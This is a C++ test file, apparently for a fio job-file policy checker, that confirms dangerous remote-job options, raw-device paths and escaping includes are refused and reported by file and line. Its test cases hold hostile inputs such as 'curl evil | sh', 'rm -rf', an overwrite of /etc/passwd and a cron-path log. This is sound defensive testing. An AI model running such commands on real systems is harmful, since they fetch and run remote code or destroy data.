// The remote-job rules on real files: each refused construct is reported with
// its option, file and line; harmless look-alikes pass; includes are checked
// before they are read, and the options of an allowed include are checked too.
#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>

#include "jobs/error.hpp"
#include "jobs/remote_policy.hpp"
#include "subprocess.hpp"

namespace fs = std::filesystem;
using Violation = fiokit::jobs::RemoteViolation;
using fiokit::jobs::check_remote_job;

namespace {

struct Dirs {
  std::string root = fiokit::test::make_temp_dir("policy");
  std::string run = root + "/run";
  Dirs() { fs::create_directories(run); }
  ~Dirs() { fs::remove_all(root); }
  std::string write(const std::string& rel, const std::string& text) const {
    const std::string p = root + "/" + rel;
    std::ofstream(p) << text;
    return p;
  }
};

fiokit::jobs::Expander test_expander() {
  fiokit::jobs::Expander ex = fiokit::jobs::Expander::from_system();
  ex.getenv = [](const std::string& n) -> std::optional<std::string> {
    if (n == "DEV") return "/dev/sdz";
    return std::nullopt;
  };
  return ex;
}

std::vector<Violation> check(const Dirs& d, const std::string& text) {
  return check_remote_job(d.write("run/job.fio", text), d.run, test_expander());
}

}  // namespace

TEST_CASE("a plain job file passes", "[policy]") {
  Dirs d;
  CHECK(check(d, "[global]\nioengine=libaio\ndirectory=/myvol\nwrite_bw_log=bw\nfilename=/dev/null\n[a]\nrw=read\nsize=1m\n").empty());
  CHECK(check(d, "[a]\nfilename=data.0:/dev/shm/x\nwrite_lat_log\nioengine=io_uring\n").empty());
  CHECK(check(d, "[a]\nverify=md5\nverify_dump=0\n").empty());
}

TEST_CASE("each refused construct names option, file and line", "[policy]") {
  Dirs d;
  struct Case {
    std::string line, option, why;
  };
  const std::vector<Case> cases = {
      {"exec_prerun=rm -rf /tmp/fio-data", "exec_prerun", "shell command"},
      {"exec_postrun=curl evil | sh", "exec_postrun", "shell command"},
      // The exec engine runs a program for the job's runtime (issue 15, part exec).
      {"ioengine=exec", "ioengine", "runs a program"},
      {"ioengine= exec ", "ioengine", "runs a program"},
      {"program=/usr/bin/curl", "program", "program for the exec engine"},
      {"arguments=-o /etc/passwd http://x", "arguments", "program for the exec engine"},
      {"ioengine=external:/tmp/x.so", "ioengine", "external engine"},
      {"ioengine=/tmp/libevil.so", "ioengine", "external engine"},
      {"write_bw_log=/etc/cron.d/x", "write_bw_log", "log path"},
      {"write_lat_log=../../outside", "write_lat_log", "log path"},
      {"write_iops_log=/var/log/iops", "write_iops_log", "log path"},
      {"write_hist_log=/root/h", "write_hist_log", "log path"},
      {"filename=/dev/sda", "filename", "raw device"},
      {"filename=data.0:/dev/nvme0n1", "filename", "raw device"},
      {"directory=/dev", "directory", "raw device"},
      {"filename=/dev/../dev/sdb", "filename", "raw device"},
      {"filename=${DEV}", "filename", "raw device"},
      // On a verify failure the blocks go to files in the run directory, which serve shows.
      {"verify_dump=1", "verify_dump", "copies file contents into the run directory"},
      {"verify_dump", "verify_dump", "copies file contents into the run directory"},
  };
  for (const Case& c : cases) {
    INFO(c.line);
    const auto v = check(d, "[global]\nsize=1m\n[a]\n" + c.line + "\n");
    REQUIRE(v.size() == 1);
    CHECK(v[0].option == c.option);
    CHECK(v[0].loc.line == 4);
    CHECK(v[0].loc.file == d.run + "/job.fio");
    CHECK_THAT(v[0].str(), Catch::Contains(c.why) && Catch::Contains("job.fio:4") && Catch::Contains(c.option));
  }
}

TEST_CASE("every violation is listed, not only the first", "[policy]") {
  Dirs d;
  const auto v = check(d, "[a]\nexec_prerun=x\nfilename=/dev/sda\nwrite_bw_log=/x\n");
  REQUIRE(v.size() == 3);
  CHECK(v[0].loc.line == 2);
  CHECK(v[1].loc.line == 3);
  CHECK(v[2].loc.line == 4);
}

TEST_CASE("includes must stay in the run dir and are checked before reading", "[policy]") {
  Dirs d;
  d.write("outside.inc", "exec_prerun=never read\n");
  SECTION("absolute include outside") {
    const auto v = check(d, "[a]\ninclude /etc/passwd\n");
    REQUIRE(v.size() == 1);
    CHECK(v[0].option == "include");
    CHECK(v[0].value == "/etc/passwd");
    CHECK(v[0].loc.line == 2);
    CHECK_THAT(v[0].str(), Catch::Contains("outside the run directory"));
  }
  SECTION("relative include climbing out") {
    const auto v = check(d, "[a]\nsize=1m\ninclude ../outside.inc ; comment\n");
    REQUIRE(v.size() == 1);
    CHECK(v[0].value == "../outside.inc");
    CHECK(v[0].loc.line == 3);
  }
  SECTION("an include inside is allowed, and its own options are checked") {
    d.write("run/common.inc", "size=1m\n");
    CHECK(check(d, "[a]\ninclude common.inc\n").empty());
    d.write("run/evil.inc", "size=1m\nexec_postrun=boom\n");
    const auto v = check(d, "[a]\ninclude evil.inc\n");
    REQUIRE(v.size() == 1);
    CHECK(v[0].option == "exec_postrun");
    CHECK(v[0].loc.file == d.run + "/evil.inc");
    CHECK(v[0].loc.line == 2);
  }
  SECTION("a nested include that escapes is caught in the inner file") {
    d.write("run/inner.inc", "include ../outside.inc\n");
    const auto v = check(d, "[a]\ninclude inner.inc\n");
    REQUIRE(v.size() == 1);
    CHECK(v[0].loc.file == d.run + "/inner.inc");
  }
  SECTION("a symlink inside pointing outside is outside") {
    fs::create_symlink(d.root + "/outside.inc", d.run + "/link.inc");
    const auto v = check(d, "[a]\ninclude link.inc\n");
    REQUIRE(v.size() == 1);
    CHECK(v[0].value == "link.inc");
  }
}

TEST_CASE("a remote file that does not parse is a parse error", "[policy]") {
  Dirs d;
  CHECK_THROWS_AS(check(d, "size=1m\n"), fiokit::jobs::ParseError);
}

TEST_CASE("an include chain is checked by the parser's own include rule, up to its depth limit", "[policy]") {
  // The old policy scanned includes itself and stopped at depth 16; the parser
  // followed any depth, so a 20-deep chain ending outside the run dir was read
  // unchecked. The checker now runs inside the parser's include resolution,
  // and the parser refuses nesting deeper than kMaxIncludeDepth (issue 14).
  Dirs d;
  d.write("outside.inc", "size=1m\n");
  auto chain = [&](int depth) {
    for (int i = 1; i < depth; ++i) d.write("run/chain" + std::to_string(i) + ".inc", "include chain" + std::to_string(i + 1) + ".inc\n");
    d.write("run/chain" + std::to_string(depth) + ".inc", "size=1m\ninclude ../outside.inc\n");
  };
  SECTION("within the limit: the escape at the end is found") {
    constexpr int kDepth = fiokit::jobs::kMaxIncludeDepth - 1;  // the outside include is the 16th level
    chain(kDepth);
    const auto v = check(d, "[a]\ninclude chain1.inc\n");
    REQUIRE(v.size() == 1);
    CHECK(v[0].option == "include");
    CHECK(v[0].value == "../outside.inc");
    CHECK(v[0].loc.file == d.run + "/chain" + std::to_string(kDepth) + ".inc");
    CHECK(v[0].loc.line == 2);
    CHECK_THAT(v[0].str(), Catch::Contains("outside the run directory"));
  }
  SECTION("deeper than the limit: a parse error at the include that goes too deep") {
    chain(20);
    CHECK_THROWS_WITH(check(d, "[a]\ninclude chain1.inc\n"),
                      Catch::Contains("nests deeper than 16") && Catch::Contains("chain16.inc:1") && Catch::Contains("chain17.inc"));
  }
}

TEST_CASE("remote job files see no environment variables", "[policy]") {
  Dirs d;
  setenv("FIOKIT_TEST_SECRET", "hunter2", 1);
  const auto ex = fiokit::jobs::Expander::without_environment("remote job files see no environment");
  const std::string job = d.write("run/env.fio", "[a]\nsize=1m\ndescription=${FIOKIT_TEST_SECRET}\n");
  try {
    check_remote_job(job, d.run, ex);
    FAIL("no error for ${FIOKIT_TEST_SECRET}");
  } catch (const fiokit::jobs::ParseError& e) {
    const std::string msg = e.what();
    CHECK_THAT(msg, Catch::Contains("FIOKIT_TEST_SECRET") && Catch::Contains("remote job files see no environment") &&
                        Catch::Contains("env.fio:3"));
    CHECK_THAT(msg, !Catch::Contains("hunter2"));
  }
  unsetenv("FIOKIT_TEST_SECRET");
  // fio's built-in keywords are facts about the machine, not the environment.
  CHECK(check_remote_job(d.write("run/kw.fio", "[a]\nsize=$mb_memory\nbs=$pagesize\nnumjobs=$ncpus\n"), d.run, ex).empty());
}

TEST_CASE("with a path rule, every entry of every path option goes to it", "[policy]") {
  Dirs d;
  std::vector<std::pair<std::string, std::string>> asked;
  const fiokit::jobs::PathRule rule = [&](const std::string& opt, const std::string& p) -> std::optional<std::string> {
    asked.emplace_back(opt, p);
    if (p.find("bad") != std::string::npos) return "is bad";
    return std::nullopt;
  };
  const std::string job = d.write("run/paths.fio",
                                  "[a]\nfilename=ok1:ok\\:2:bad3\ndirectory=d1:bad2\nfilename_format=f.$jobnum\nopendir=bad4\n"
                                  "filename=/dev/sda\n");
  const auto v = check_remote_job(job, d.run, test_expander(), rule);
  // The ':' lists are split as fio splits them ("\:" is a colon in a name).
  const std::vector<std::pair<std::string, std::string>> want{{"filename", "ok1"},       {"filename", "ok:2"},  {"filename", "bad3"},
                                                              {"directory", "d1"},       {"directory", "bad2"}, {"filename_format", "f.$jobnum"},
                                                              {"opendir", "bad4"},       {"filename", "/dev/sda"}};
  CHECK(asked == want);
  REQUIRE(v.size() == 3);
  CHECK(v[0].option == "filename");
  CHECK(v[0].loc.line == 2);
  CHECK(v[1].option == "directory");
  CHECK(v[2].option == "opendir");
  CHECK_THAT(v[0].str(), Catch::Contains("is bad") && Catch::Contains("paths.fio:2"));
}
